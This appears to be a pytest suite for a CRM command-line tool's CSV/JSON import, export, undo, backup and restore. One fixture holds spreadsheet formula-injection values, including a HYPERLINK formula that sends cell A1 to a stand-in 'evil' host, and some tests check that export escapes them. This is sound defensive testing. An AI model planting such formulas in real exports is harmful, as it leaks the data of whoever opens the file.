from __future__ import annotations

import csv
import io
import json
import os
import signal
import time
from pathlib import Path

import pytest
from cli_program import SUNDAY, Program

ROWS = """שם מלא;טלפון;דוא"ל;הערה
דנה לוי;052-732-5777;dana@levi.example;=1+1
Yossi Cohen;03-555-1212;;two words
nobody;;;
;123;not an address;x
דנה לוי;+972 52 7325777;;again
"""
CONTACTS_HEADER = "id,name,phone,email,company,owner,lifecycle,status,source,campaign,readiness,tags,note,created_at"


@pytest.fixture(scope="module")
def leads(program: Program) -> Path:
    """A small file of leads, already imported once."""
    path = program.home / "leads.csv"
    path.write_bytes(ROWS.encode("windows-1255"))
    return path


@pytest.fixture(scope="module")
def filled(program: Program, leads: Path) -> Program:
    """A store with the leads of the file and what nasty values become."""
    assert program("--now", SUNDAY, "import", str(leads), "--campaign", "Fair", "--source", "exhibition").code == 3
    program.play(
        {
            "command": "add_lead",
            "name": '=HYPERLINK("http://evil/?"&A1,"x")',
            "email": "evil@x.example",
            "company": "@SUM(1+1)",
            "note": 'a",=1+1,"b',
        },
        {"command": "tag", "contact": "evil@x.example", "tag": "vip"},
        {"command": "tag", "contact": "evil@x.example", "tag": "חם"},
        {"command": "edit_contact", "contact": "evil@x.example", "shoe size": "41"},
        {"command": "open_deal", "contact": "0527325777", "name": "Demo", "value": 8000},
    )
    return program


def test_dry_run_changes_nothing(fresh: Program, leads: Path) -> None:
    run = fresh.inside("import", str(leads), "--dry-run", "--json")
    assert run.code == 3
    assert (run.json["rows"], run.json["created"], run.json["touched"]) == (5, 3, 1)
    assert fresh.inside("show", "inbox", "--json").json == []
    assert not leads.with_name("leads.csv.refused.csv").exists()
    assert "Nothing was changed" in fresh.inside("import", str(leads), "--dry-run").out


def test_import_answers_and_lists_what_it_refused(filled: Program, leads: Path) -> None:
    again = filled("import", str(leads), "--json")
    assert again.code == 3
    answer = again.json
    assert answer.keys() == {"rows", "created", "touched", "refused", "flagged", "skipped", "id"}
    assert (answer["rows"], answer["created"], answer["touched"], answer["skipped"]) == (5, 0, 0, 4)
    (refused,) = answer["refused"]
    assert refused["line"] == 5
    assert refused["value"]
    assert refused["reason"]
    written = list(csv.reader(leads.with_name("leads.csv.refused.csv").open(encoding="utf-8-sig")))
    assert written[1][0] == "5"
    contact = filled.inside("show", "contact", "052-7325777", "--json").json
    assert (contact["name"], contact["source"], contact["campaign"], contact["returning"]) == ("דנה לוי", "exhibition", "Fair", True)


def test_several_files_are_summed(fresh: Program, tmp_path: Path) -> None:
    for number in (1, 2):
        (tmp_path / f"{number}.csv").write_text(f"name,phone\nPerson {number},050-555-000{number}\n,12\n")
    (tmp_path / "empty.csv").write_bytes(b"")
    run = fresh.inside("import", *(str(tmp_path / name) for name in ("1.csv", "empty.csv", "2.csv")), "--json")
    assert run.code == 3
    assert (run.json["rows"], run.json["created"]) == (4, 2)
    assert [Path(one["file"]).name for one in run.json["refused"]] == ["1.csv", "2.csv"]
    assert [("error" in one) for one in run.json["files"]] == [False, True, False]
    text = fresh.inside("import", str(tmp_path / "1.csv"))
    assert "1.csv: 2 rows" in text.out
    assert "1.csv.refused.csv" in text.err


def test_a_whole_import_is_undone_at_once(fresh: Program, leads: Path) -> None:
    id_ = fresh.inside("import", str(leads), "--json").json["id"]
    assert fresh.inside("undo", "--json").json["undone"] == id_
    assert fresh.inside("show", "inbox", "--json").json == []


@pytest.mark.parametrize(
    ("content", "field"),
    [(b"", "file"), (b"colour;shape\nred;round\n", "header"), (os.urandom(3000), None)],
)
def test_files_that_are_no_list_of_leads(fresh: Program, tmp_path: Path, content: bytes, field: str | None) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(content)
    run = fresh.inside("import", str(path), "--json")
    assert run.code in (1, 3)
    if field:
        assert run.code == 1
        assert run.json["error"]["message"]
    assert fresh.inside("show", "inbox", "--json").json == []


def test_ctrl_c_keeps_whole_chunks_and_the_same_command_goes_on(fresh: Program, tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    path.write_text("name,phone\n" + "".join(f"Person {n} Family,05{n % 10}{2_000_000 + n}\n" for n in range(6_000)))
    process = fresh.start("import", str(path))
    store = fresh.store.with_name("crm.db-wal")
    end = time.monotonic() + 20
    while time.monotonic() < end and not (store.exists() and store.stat().st_size > 1_000_000):
        time.sleep(0.01)
    process.send_signal(signal.SIGINT)
    _out, err = process.communicate(timeout=20)
    assert process.returncode == 130
    assert b"the same command goes on" in err
    assert b"Traceback" not in err
    answer = fresh.inside("import", str(path), "--json").json
    assert answer["rows"] == 6_000
    assert 0 < answer["skipped"] < 6_000
    assert answer["created"] + answer["touched"] + answer["skipped"] == 6_000
    assert fresh.inside("check", "--json").json["ok"] is True


def test_contacts_as_csv(filled: Program) -> None:
    out = filled.home / "contacts.csv"
    run = filled("export", "contacts", "-o", str(out))
    assert (run.code, run.out) == (0, "")
    assert str(out) in run.err
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf" + CONTACTS_HEADER.encode() + b",")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    evil = next(row for row in rows if row["email"] == "evil@x.example")
    assert evil["name"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert evil["company"] == "'@SUM(1+1)"
    assert sorted(evil["tags"].split("; ")) == ["vip", "חם"]
    assert not filled.inside("export", "contacts").out.startswith("\ufeff")
    assert [path.name for path in out.parent.glob(".*.part")] == []


def test_what_was_exported_goes_in_again(filled: Program, fresh: Program) -> None:
    out = filled.home / "again.csv"
    filled.inside("export", "contacts", "-o", str(out))
    run = fresh.inside("import", str(out), "--json")
    assert run.code == 0
    contact = fresh.inside("show", "contact", "evil@x.example", "--json").json
    before = filled.inside("show", "contact", "evil@x.example", "--json").json
    for field in ("name", "company", "tags", "emails", "source"):
        assert contact[field] == before[field], field


def test_what_does_not_fit_its_field_is_said(fresh: Program) -> None:
    fresh.play({"command": "set_setting", "name": "fields.seats", "value": {"label": "Seats", "kind": "number"}})
    fresh.play({"command": "set_setting", "name": "sources.fair", "value": {"label": "The Fair"}})
    path = fresh.home / "seats.csv"
    path.write_text("name,phone,seats\nDana,0522345671,many\n")
    run = fresh.inside("import", str(path), "--source", "the fair", "--dry-run")
    assert run.code == 0
    assert "1 value does not fit its field." in run.out
    assert "seats (?)" in run.out
    assert "many is not a number." in run.out
    run = fresh.inside("import", str(path), "--source", "the fare")
    assert (run.code, run.out) == (2, "")
    assert "There is no source the fare; did you mean The Fair?" in run.err


def test_a_view_as_csv_has_its_columns_in_its_order(filled: Program, fresh: Program) -> None:
    columns = ["value", "name", "next", "stage", "email", "owner", "age", "touched", "phone", "attempts"]
    filled.play({"command": "save_view", "name": "All of it", "filter": "", "columns": columns, "order": "oldest"})
    filled.play({"command": "save_view", "name": "Bare", "filter": ""})
    out = filled.home / "view.csv"
    assert filled.inside("export", "contacts", "--view", "all of it", "-o", str(out)).code == 0
    header, *lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert header == "value,currency,name,next_action,next_at,lifecycle,email,owner,started_at,worked_at,phone,attempts,crm_tui_id"
    contacts = filled.inside("export", "contacts", "--format", "json").json
    rows = list(csv.DictReader(io.StringIO("\n".join([header, *lines]))))
    assert [row["crm_tui_id"] for row in rows] == [one["id"] for one in contacts]
    assert [row["email"] for row in rows] == [one["email"] or "" for one in contacts]
    assert {row["name"] for row in rows} >= {'\'=HYPERLINK("http://evil/?"&A1,"x")'}, "no formula runs"
    assert all(
        (row["lifecycle"], row["next_at"]) == (one["lifecycle"], one["next_at"] or "") for row, one in zip(rows, contacts, strict=True)
    )
    whole = filled.inside("export", "contacts", "--view", "all of it", "--all-columns").out
    assert whole.startswith(CONTACTS_HEADER)
    assert (
        filled.inside("export", "contacts", "--view", "bare").out
        == filled.inside("export", "contacts", "--view", "all", "--all-columns").out
    )
    objects = filled.inside("export", "contacts", "--view", "all of it", "--format", "json").json
    assert objects == contacts, "JSON keeps whole objects"
    assert fresh.inside("import", str(out), "--json").code in (0, 3)
    again = fresh.inside("show", "contact", "evil@x.example", "--json").json
    before = filled.inside("show", "contact", "evil@x.example", "--json").json
    assert (again["name"], again["phone"], again["owner"]) == (before["name"], before["phone"], None)
    assert again.get("properties") in (None, {}), "what follows from the log is no property"


def test_a_view_without_what_only_we_have_comes_back_too(filled: Program, fresh: Program) -> None:
    filled.play({"command": "save_view", "name": "Plain", "filter": "", "columns": ["name", "email", "owner", "status"]})
    out = filled.home / "plain.csv"
    assert filled.inside("export", "contacts", "--view", "plain", "-o", str(out)).code == 0
    assert fresh.inside("import", str(out), "--json").code in (0, 3)
    assert fresh.inside("show", "contact", "evil@x.example", "--json").json.get("properties") in (None, {})


def test_contacts_as_json_are_those_of_show_contact(filled: Program) -> None:
    contacts = filled.inside("export", "contacts", "--format", "json").json
    shown = filled.inside("show", "contact", "evil@x.example", "--json").json
    exported = next(one for one in contacts if one["id"] == shown["id"])
    assert {key: value for key, value in shown.items() if key in exported} == {key: exported[key] for key in shown if key in exported}
    lines = filled.inside("export", "contacts", "--format", "jsonl").out.splitlines()
    assert [json.loads(line)["id"] for line in lines] == [one["id"] for one in contacts]


@pytest.mark.parametrize("what", ["deals", "timeline", "changes", "all"])
def test_the_other_exports(filled: Program, what: str) -> None:
    records = filled.inside("export", what, "--format", "json").json
    assert len(records) > 0
    lines = filled.inside("export", what, "--format", "jsonl").out.splitlines()
    assert [json.loads(line) for line in lines] == records
    if what in ("deals", "timeline"):
        rows = list(csv.DictReader(io.StringIO(filled.inside("export", what).out)))
        assert len(rows) == len(records)
        assert all(row["id"] for row in rows)


def test_deals_as_csv(filled: Program) -> None:
    (row,) = csv.DictReader(io.StringIO(filled.inside("export", "deals").out))
    assert (row["name"], row["value"], row["currency"], row["stage"]) == ("Demo", "8000.00", "ILS", "phone")


def test_export_everything_is_canonical(filled: Program) -> None:
    out = filled.inside("export", "all", "--format", "json").out
    lines = out.splitlines()
    assert (lines[0], lines[-1]) == ("[", "]")
    for line in lines[1:-1]:
        record = json.loads(line.removesuffix(","))
        assert line.removesuffix(",") == json.dumps(record, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    assert filled.inside("export", "all").out == out


def test_an_export_is_whole_or_not_there(filled: Program, tmp_path: Path) -> None:
    assert filled.inside("export", "contacts", "-o", str(tmp_path)).code == 1
    assert filled.inside("export", "contacts", "-o", str(tmp_path / "no" / "such" / "folder.csv")).code == 1
    target = tmp_path / "kept.json"
    target.write_text("before")
    assert filled.inside("--as", "mallory", "export", "contacts", "-o", str(target)).code == 1
    assert target.read_text() == "before"
    assert filled.inside("export", "contacts", "-o", str(target)).code == 0
    assert isinstance(json.loads(target.read_text()), list), "the name of the file tells the format"
    assert [path.name for path in tmp_path.iterdir()] == ["kept.json"]


def test_check_backup_restore(filled: Program, fresh: Program, tmp_path: Path) -> None:
    checked = filled("check", "--json").json
    assert checked["ok"] is True
    assert checked["batches"] > 0
    assert checked["differences"] == []
    copy = tmp_path / "copy.db"
    assert filled("backup", str(copy)).code == 0
    before = filled.inside("export", "all", "--format", "json").out
    restored = fresh("restore", str(copy))
    assert restored.code == 0
    assert fresh.inside("export", "all", "--format", "json").out == before
    (tmp_path / "bad.db").write_bytes(b"nothing of a database here" * 50)
    assert fresh.inside("restore", str(tmp_path / "bad.db")).code in (1, 5)
    assert fresh.inside("export", "all", "--format", "json").out == before


def test_a_damaged_store_is_found_with_5(fresh: Program) -> None:
    import sqlite3

    fresh.play({"command": "add_lead", "name": "Whole Person", "phone": "052-732-5777"})
    with sqlite3.connect(fresh.store) as store:
        store.execute("UPDATE contact SET name = 'Somebody Else'")
    store.close()
    run = fresh("check", "--json")
    assert run.code == 5
    assert run.json["ok"] is False
    assert run.json["differences"]
